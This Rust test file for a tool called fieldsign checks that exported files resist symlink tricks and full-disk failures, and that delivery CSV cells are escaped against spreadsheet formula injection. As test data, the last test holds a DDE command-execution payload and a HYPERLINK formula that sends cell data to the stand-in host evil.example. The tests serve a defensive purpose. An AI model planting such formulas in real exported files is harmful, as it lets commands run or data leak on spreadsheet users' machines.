//! Output files that could be turned against the user (threat model, "files fieldsign
//! writes"): a link planted at the output's name or at a temporary name beside it is
//! never written through, `--force` replaces a link instead of following it, a
//! dangling link counts as "exists", and a full disk leaves no partial plaintext file
//! and says that the disk is full.
//!
//! The full-disk test mounts a small tmpfs, which needs root (CI runs as root);
//! elsewhere it prints a note and checks nothing.

mod common;

use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::Command;

use common::{Exchange, TestVault, assert_clean_failure, s};

/// A file the attacker wants overwritten (say `~/.bashrc`), with its content.
fn victim(t: &TestVault) -> PathBuf {
    let path = t.path("victim");
    std::fs::write(&path, "precious").unwrap();
    path
}

fn untouched(path: &Path) {
    assert_eq!(
        std::fs::read_to_string(path).unwrap(),
        "precious",
        "{}",
        path.display()
    );
}

fn private_regular_file(path: &Path) {
    let meta = std::fs::symlink_metadata(path).unwrap();
    assert!(
        meta.file_type().is_file(),
        "{} is a regular file, not a link",
        path.display()
    );
    assert_eq!(
        meta.permissions().mode() & 0o777,
        0o600,
        "{}",
        path.display()
    );
}

/// No file but the expected ones in `dir`: no temporary or partial file left over.
fn only_files(dir: &Path, expected: &[&str]) {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    names.sort_unstable();
    let mut expected: Vec<String> = expected.iter().map(|s| (*s).to_owned()).collect();
    expected.sort_unstable();
    assert_eq!(names, expected);
}

#[test]
fn links_planted_at_temporary_names_or_the_output_are_never_written_through() {
    let x = Exchange::new();
    x.org
        .add(&x.campaign, &x.event, 1, 1, &[("name", "Олена Шевченко")]);
    let target = victim(&x.org);
    let out_dir = x.org.path("out");
    std::fs::create_dir(&out_dir).unwrap();
    let out = out_dir.join("b.age");
    // The names an older fieldsign used for its temporary file, and likely others.
    for name in ["b.tmp", "b.age.tmp", ".b.age.tmp"] {
        symlink(&target, out_dir.join(name)).unwrap();
    }
    x.org.ok(&[
        "export",
        "bundle",
        "--campaign",
        &x.campaign,
        "--out",
        s(&out),
    ]);
    untouched(&target);
    private_regular_file(&out);
    only_files(&out_dir, &["b.age", "b.tmp", "b.age.tmp", ".b.age.tmp"]);

    // A link at the output: refused without --force, replaced (not followed) with it.
    let linked = out_dir.join("linked.age");
    symlink(&target, &linked).unwrap();
    let args = [
        "export",
        "bundle",
        "--campaign",
        &x.campaign,
        "--out",
        s(&linked),
    ];
    let err = x.org.fails_cleanly(&args, &[]);
    assert!(
        err.contains("already exists") && err.contains("--force"),
        "{err}"
    );
    untouched(&target);
    x.org.ok(&[&args[..], &["--force"]].concat());
    untouched(&target);
    private_regular_file(&linked);

    // A dangling link exists too: nothing is created where it points.
    let dangling = out_dir.join("dangling.age");
    let nowhere = x.org.path("nowhere");
    symlink(&nowhere, &dangling).unwrap();
    let args = [
        "export",
        "bundle",
        "--campaign",
        &x.campaign,
        "--out",
        s(&dangling),
    ];
    x.org.fails_cleanly(&args, &[]);
    assert!(!nowhere.exists());
}

#[test]
fn force_replaces_links_for_csv_identity_campaign_and_receipt_files() {
    let x = Exchange::new();
    let bundle = x.org.path("b.age");
    x.org
        .add(&x.campaign, &x.event, 1, 1, &[("name", "Олена Шевченко")]);
    x.org.ok(&[
        "export",
        "bundle",
        "--campaign",
        &x.campaign,
        "--out",
        s(&bundle),
    ]);
    x.coord.ok(&["import", "bundle", s(&bundle)]);
    let fingerprint = x.org.identity()["signing_key"].as_str().unwrap().to_owned();
    let target = victim(&x.coord);
    let commands: Vec<(&str, Vec<String>)> = vec![
        (
            "delivery.csv",
            vec![
                "export".into(),
                "csv".into(),
                "--campaign".into(),
                x.campaign.clone(),
            ],
        ),
        ("identity.txt", vec!["identity".into(), "export".into()]),
        (
            "c.fieldsign",
            vec![
                "campaign".into(),
                "create".into(),
                "--title".into(),
                "Second".into(),
            ],
        ),
        (
            "r.age",
            vec![
                "receipt".into(),
                "--device".into(),
                fingerprint,
                "--campaign".into(),
                x.campaign.clone(),
            ],
        ),
    ];
    for (name, args) in commands {
        let out = x.coord.path(name);
        symlink(&target, &out).unwrap();
        let mut with_out: Vec<&str> = args.iter().map(String::as_str).collect();
        with_out.extend(["--out", s(&out)]);
        let err = x.coord.fails_cleanly(&with_out, &["Олена"]);
        assert!(err.contains("already exists"), "{name}: {err}");
        untouched(&target);
        with_out.push("--force");
        x.coord.ok(&with_out);
        untouched(&target);
        private_regular_file(&out);
        // And a dangling link is not followed either.
        std::fs::remove_file(&out).unwrap();
        let nowhere = x.coord.path(&format!("nowhere-{name}"));
        symlink(&nowhere, &out).unwrap();
        with_out.pop();
        x.coord.fails_cleanly(&with_out, &["Олена"]);
        assert!(!nowhere.exists(), "{name}: followed a dangling link");
        std::fs::remove_file(&out).unwrap();
    }
}

/// A tmpfs mounted on a folder, unmounted when dropped.
struct SmallDisk(PathBuf);

impl SmallDisk {
    fn mount(dir: &Path) -> Result<Self, String> {
        if !rustix::process::geteuid().is_root() {
            return Err("not running as root".into());
        }
        std::fs::create_dir_all(dir).map_err(|e| e.to_string())?;
        let out = Command::new("mount")
            .args(["-t", "tmpfs", "-o", "size=256k,mode=0700", "tmpfs"])
            .arg(dir)
            .output()
            .map_err(|e| format!("cannot run mount: {e}"))?;
        if !out.status.success() {
            return Err(String::from_utf8_lossy(&out.stderr).trim().to_owned());
        }
        Ok(Self(dir.to_path_buf()))
    }

    /// Fills the disk to the last byte.
    fn fill(&self) {
        use std::io::Write;
        let mut file = std::fs::File::create(self.0.join("filler")).unwrap();
        let chunk = vec![0x5au8; 4096];
        while file.write_all(&chunk).is_ok() {}
        while file.write_all(&[0]).is_ok() {}
        let _ = file.sync_all();
    }
}

impl Drop for SmallDisk {
    fn drop(&mut self) {
        let _ = Command::new("umount").arg(&self.0).status();
    }
}

#[test]
fn a_full_disk_during_export_csv_leaves_no_partial_plaintext_and_says_so() {
    let t = TestVault::new();
    let (campaign, event) = t.campaign_and_event();
    let names: Vec<String> = (1..=40)
        .map(|i| format!("Олена Шевченко-Коваленко {i} {}", "ї".repeat(150)))
        .collect();
    for (i, name) in names.iter().enumerate() {
        t.add(
            &campaign,
            &event,
            1,
            u32::try_from(i + 1).unwrap(),
            &[("name", name)],
        );
    }
    let disk = match SmallDisk::mount(&t.path("usb")) {
        Ok(disk) => disk,
        Err(why) => {
            eprintln!("note: full-disk export test skipped ({why})");
            return;
        }
    };
    disk.fill();
    let out = disk.0.join("delivery.csv");
    let run = t.run(&["export", "csv", "--campaign", &campaign, "--out", s(&out)]);
    assert_clean_failure(&run, &["Олена"], "export csv on a full disk");
    let err = String::from_utf8_lossy(&run.stderr);
    assert!(
        err.contains("disk is full") && err.contains("delivery.csv"),
        "{err}"
    );
    assert!(!err.contains("vault folder"), "{err}");
    only_files(&disk.0, &["filler"]);
    // Once there is room, the same command works.
    std::fs::remove_file(disk.0.join("filler")).unwrap();
    t.ok(&["export", "csv", "--campaign", &campaign, "--out", s(&out)]);
    private_regular_file(&out);
}

/// Spreadsheet formulas in the delivery CSV (threat model): every free-text cell that
/// starts with `=`, `+`, `-`, `@`, tab or CR is prefixed with `'`, in both profiles;
/// phone numbers are written normalized, alone in their column.
#[test]
fn delivery_csv_cells_cannot_run_as_spreadsheet_formulas() {
    let t = TestVault::new();
    let (campaign, event) = t.campaign_and_event();
    let calc = "-1+cmd|' /C calc'!A0";
    let link = "+(HYPERLINK(\"http://evil.example/?\"&A1))";
    t.add(
        &campaign,
        &event,
        1,
        1,
        &[
            ("name", calc),
            ("city", link),
            ("phone", "+30 210 123 4567"),
        ],
    );
    t.add(
        &campaign,
        &event,
        1,
        2,
        &[
            ("name", "@SUM(A1) Ana"),
            ("city", "=1+1"),
            ("phone", "(030) 1234-5678"),
        ],
    );
    let read = |profile: &str| -> Vec<csv::StringRecord> {
        let out = t.path(&format!("{profile}.csv"));
        t.ok(&[
            "export",
            "csv",
            "--campaign",
            &campaign,
            "--out",
            s(&out),
            "--profile",
            profile,
            "--force",
        ]);
        csv::Reader::from_path(&out)
            .unwrap()
            .records()
            .map(Result::unwrap)
            .collect()
    };
    let risky = |cell: &str| cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    for (profile, phone_column) in [("plain", 6), ("action-network", 3)] {
        let rows = read(profile);
        assert_eq!(rows.len(), 2);
        for row in &rows {
            for (i, cell) in row.iter().enumerate() {
                if i == phone_column {
                    assert!(
                        cell.strip_prefix('+')
                            .unwrap_or(cell)
                            .chars()
                            .all(|c| c.is_ascii_digit()),
                        "{profile}: phone cell {cell:?}"
                    );
                } else {
                    assert!(
                        !risky(cell),
                        "{profile}: column {i} runs as a formula: {cell:?}"
                    );
                }
            }
        }
        let all: Vec<String> = rows
            .iter()
            .flat_map(|r| r.iter().map(str::to_owned))
            .collect();
        assert!(
            all.contains(&"+302101234567".to_owned()),
            "{profile}: {all:?}"
        );
        assert!(
            all.contains(&"03012345678".to_owned()),
            "{profile}: {all:?}"
        );
        assert!(all.contains(&format!("'{link}")), "{profile}: {all:?}");
    }
    let plain = read("plain");
    assert_eq!(&plain[0][4], format!("'{calc}"));
}
